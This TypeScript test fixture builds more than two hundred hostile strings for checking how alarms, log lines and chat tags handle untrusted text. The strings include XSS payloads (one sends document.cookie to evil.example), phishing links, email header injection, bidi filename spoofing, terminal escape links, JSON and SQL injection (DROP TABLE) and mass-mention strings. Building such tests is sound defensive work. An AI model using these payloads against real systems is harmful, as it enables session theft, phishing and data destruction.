const [nul, esc, bell, csi] = ['\u0000', '\u001b', '\u0007', '\u009b'];

/** What somebody could write into an alarm, a log line or a tag, to do something where it is shown. */
const attacks: readonly string[] = [
  '<script>fetch("https://evil.example/"+document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#x3C;img src=x onerror=alert(1)&#x3E;',
  '</style><script>alert(1)</script><!--<img src="--><img src=x onerror=alert(1)//">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><a href="javascript:alert(1)">click</a>',
  '{{constructor.constructor("alert(1)")()}} __proto__ $&$1$`',
  'W'.repeat(599),
  '字'.repeat(599),
  'word '.repeat(120),
  'ﷺ'.repeat(300),
  '&#60;!channel&#62;',
  '<!channel> <!here> <!everyone>',
  '<@U024BE7LH> <#C024BE7LR|general> <!subteam^SAZ94GDB8>',
  '@everyone @here @channel <at>Everyone</at>',
  '<https://evil.example/a/1#token|Approve here>',
  '[Approve here](https://evil.example/a/1) ![x](http://evil.example/p.png)',
  'https://evil.example/approve http://203.0.113.9/ www.evil.example evil.example/a',
  'mailto:mallory@evil.example tel:+886900000000 javascript:alert(1)',
  '*bold* _italic_ ~strike~ `code` ```block``` > quote # heading :fire: ||spoiler||',
  '- [ ] task\n1. item\n***\n---\n| a | b |',
  'payments\r\nBcc: everybody@evil.example\r\n\r\nApproved already, nothing to do',
  'payments\nNothing to do. Decide by 2099-01-01.\nhttps://evil.example',
  'payments\u2028second\u2029third\u0085fourth',
  '\u202egnp.exe\u202c \u2066left\u2069 \u200f\u200e',
  `${esc}[31mred${esc}[0m ${esc}]8;;https://evil.example${bell}click${esc}]8;;${bell} ${csi}2J`,
  `null${nul}byte ${nul}${nul}`,
  '\ud800 half \udc00 \ufeff\u200b\u00ad\u{e0041}',
  '{service} {cause} {link} {time} ${7*7} {{7*7}} %s %n',
  '","link":"https://evil.example","x":"',
  "'; DROP TABLE incidents; -- \\ \\n \\u0000",
  'Ｒ\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 Z̷̢̛͓a̸lgo 無限 🔥👩‍👩‍👧‍👦',
];

const around: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `payments ${text}`,
  (text) => ` \t\r\n${text}\n`,
  (text) => `${nul}${text}${esc}`,
  (text) => text.repeat(Math.ceil(10_240 / text.length)),
  (text) => `${'x'.repeat(10_240)}${text}`,
];

/** More than two hundred of them, some of 10 kB. */
export const hostileTexts: readonly string[] = attacks.flatMap((text) => around.map((wrap) => wrap(text)));
